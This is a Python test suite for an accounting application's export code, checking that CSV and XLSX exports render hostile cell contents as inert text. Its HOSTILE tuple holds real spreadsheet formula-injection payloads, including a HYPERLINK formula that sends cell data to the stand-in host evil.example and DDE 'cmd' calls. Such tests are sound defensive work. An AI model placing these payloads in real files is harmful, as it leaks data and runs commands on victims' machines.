"""What leaves as a sheet computes nothing: every export with hostile texts in it, cell by cell."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from huikuan.books.customers import actions as customers
from huikuan.kit import cells
from huikuan.office.trail.hands import collect
from tools import lint

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "＝1+1", " =1+1",
)  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_of_csv_computes_nothing(text):
    out = io.StringIO()
    cells.Writer(out).writerows([[text, "plain", 5]])
    [row] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row[0].startswith("'") and row[1:] == ["plain", "5"]


def test_amounts_keep_their_sign():
    for amount in ("-12.50", "+3", "-1,234.56", "-5%"):
        assert cells.cell(amount) == amount
    assert cells.cell("-1e5") == "'-1e5" and cells.cell("") == "" and cells.cell(None) is None


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_of_xlsx_is_text(text):
    out = io.BytesIO()
    book = cells.workbook(out, in_memory=True)
    book.add_worksheet().write(0, 0, text)  # even where the kind of cell is guessed
    book.close()
    cell = load_workbook(io.BytesIO(out.getvalue())).active["A1"]
    assert cell.data_type == "s" and cell.hyperlink is None


@pytest.mark.slow
def test_workbooks_and_csv_are_opened_in_one_place():
    found = [s for p in lint.every_file() for s in lint.sins(p.relative_to(lint.SOURCE).as_posix(), p.read_text())]
    assert [str(s) for s in found if s.rule == "export"] == []


def formulas(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [
        f"{s.title}!{c.coordinate} {c.value}"
        for s in book
        for row in s
        for c in row
        if c.data_type == "f" or c.hyperlink
    ]


def test_every_list_exports_texts_as_texts(cast, act, door):
    """Every page of the rail that exports, with customers whose every text would compute."""
    from huikuan.office.company.models import Membership, Person

    for n, text in enumerate(HOSTILE):
        text = text.strip()
        customers.create(act("liu.min"), f"F{n:03}", text, short_name=text[:50], contact=text[:50], tax_title=text)
    person = Person.objects.get(login="zhao.yan")
    held = set(Membership.objects.filter(person=person).values_list("role", flat=True))
    roles = {r for _c, d in collect("duties") for r in d.roles} - held - {"BOT"}
    Membership.objects.bulk_create(Membership(company=cast.company, person=person, role=r) for r in sorted(roles))
    client = door("zhao.yan")
    exported, hostile = 0, 0
    for url in dict.fromkeys(n.url.split("?")[0] for _c, n in collect("nav")):
        answer = client.get(url, {"export": "xlsx"})
        if answer.headers.get("Content-Type", "").startswith("application/vnd.openxml"):
            exported += 1
            assert formulas(answer.content) == [], url
            texts = [str(c.value) for s in load_workbook(io.BytesIO(answer.content)) for row in s for c in row]
            hostile += any("HYPERLINK" in t for t in texts)
    assert exported >= 12 and hostile >= 1, (exported, hostile)


def test_a_statement_exports_texts_as_texts(cast, act):
    from huikuan.receivables.statements import paper, queries

    row = customers.create(act("liu.min"), "F900", HOSTILE[0], address=HOSTILE[3])
    statement = queries.statement(cast.company.pk, row.pk, date(2026, 1, 1), date(2026, 2, 28))
    made = paper.xlsx(statement) if hasattr(paper, "xlsx") else None
    assert made is not None and formulas(made) == []


def test_rows_set_aside_by_a_take_over_are_texts(cast, act, door):
    from huikuan.review.takeover import bots
    from huikuan.review.takeover.models import Load
    from huikuan.review.takeover.tests.test_rules import HEAD, MAP

    rows = io.StringIO()
    csv.writer(rows, lineterminator="\n").writerows(
        ["C1", text, f"A{n}", "2026-02-30", "", "50.00", text] for n, text in enumerate(HOSTILE)
    )
    bots.receivables(act(), io.BytesIO((HEAD + rows.getvalue()).encode()), "list.csv", MAP, "t.yaml")
    load = Load.objects.get()
    answer = door("liu.min").get(f"/takeover/{load.pk}/rejects.xlsx")
    assert answer.status_code == 200 and formulas(answer.content) == []
    texts = [str(c.value) for s in load_workbook(io.BytesIO(answer.content)) for row in s for c in row]
    assert sum("HYPERLINK" in t for t in texts) >= 1


def test_the_file_for_sap_computes_nothing():
    from huikuan.connectors.sap.types import PostBackTable
    from huikuan.connectors.sap.upload import pack

    content, kind = pack(
        [PostBackTable("journal.csv", ("TEXT", "AMOUNT"), tuple((text, "-12.50") for text in HOSTILE))]
    )
    assert kind == "csv"
    _head, *found = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert len(found) == len(HOSTILE) and all(text.startswith("'") and amount == "-12.50" for text, amount in found), (
        found
    )


def test_the_workbook_of_open_items_by_age_holds_texts(cast, act, tmp_path):
    from typer.testing import CliRunner

    from huikuan.books.ledger import actions as books
    from huikuan.review.kpis.tests.test_queries import bill, cny
    from huikuan.site.cli import gather

    row = customers.create(act("liu.min"), HOSTILE[3][:20], HOSTILE[0])
    books.post(act(), [bill(row.pk, "B1", date(2026, 2, 1), date(2026, 2, 28), cny("10"))])
    out = tmp_path / "age.xlsx"
    told = CliRunner().invoke(gather(), ["ageing", "--as-of", "2026-03-31", "--by", "customer", "--xlsx", str(out)])
    assert told.exit_code == 0, told.output
    assert formulas(out.read_bytes()) == []
    texts = [str(c.value) for s in load_workbook(out) for row in s for c in row]
    assert any(t.startswith("@SUM") or "HYPERLINK" in t for t in texts), texts
